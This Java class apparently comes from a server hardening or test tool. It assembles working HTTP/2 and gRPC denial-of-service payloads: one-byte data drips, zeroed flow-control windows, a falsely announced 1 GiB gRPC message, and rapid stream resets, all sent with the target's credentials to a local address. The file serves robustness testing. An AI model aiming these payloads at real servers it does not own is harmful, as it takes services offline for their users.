package io.knabla.hostile;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Attacks over HTTP/2 (RFC 9113) and gRPC, as what is sent on a connection that then stays open: pieces of one byte,
 * changes of windows, streams that are reset at once, a message of a gibibyte that does not come.
 */
final class Http2Attacks {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int END_HEADERS = 4;

    /** The connection preface, and windows of zero for all answers. */
    private static final String BEGIN = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, windows(1));

    private Http2Attacks() {}

    static List<String> of(Target target) {
        String head = frame(HEADERS, END_HEADERS, 1, head(target, "application/json"));
        String grpc = frame(HEADERS, END_HEADERS, 1, head(target, "application/grpc"));
        StringBuilder resets = new StringBuilder(BEGIN);
        for (int stream = 1; stream < 2000; stream += 2) {
            resets.append(frame(HEADERS, END_HEADERS, stream, head(target, "application/json")))
                    .append(frame(RST_STREAM, 0, stream, "\0\0\0\u0008"));
        }
        return List.of(
                BEGIN + head + frame(DATA, 0, 1, " ").repeat(5000),
                BEGIN + head + frame(SETTINGS, 0, 0, windows(2000)).repeat(20),
                BEGIN + grpc + frame(DATA, 0, 1, "\0\u0040\0\0\0"),
                resets.toString());
    }

    /** Changes of SETTINGS_INITIAL_WINDOW_SIZE to zero. */
    private static String windows(int count) {
        return "\0\u0004\0\0\0\0".repeat(count);
    }

    /** In HPACK (RFC 7541), by the static table and literals that enter no table. */
    private static String head(Target target, String type) {
        StringBuilder head = new StringBuilder("\u0083\u0086").append(literal(4, target.infer()));
        head.append(literal(1, "127.0.0.1:" + target.port()))
                .append("\u000f\u0010")
                .append(text(type));
        target.credentials()
                .lines()
                .map(line -> line.replaceFirst("^Authorization: ", ""))
                .forEach(value -> head.append("\u000f\u0008").append(text(value)));
        return head.toString();
    }

    private static String literal(int name, String value) {
        return (char) name + text(value);
    }

    private static String text(String value) {
        return (char) value.length() + value;
    }

    private static String frame(int type, int flags, int stream, String content) {
        byte[] head = ByteBuffer.allocate(9)
                .put((byte) (content.length() >> 16))
                .putShort((short) content.length())
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .array();
        return new String(head, StandardCharsets.ISO_8859_1) + content;
    }
}
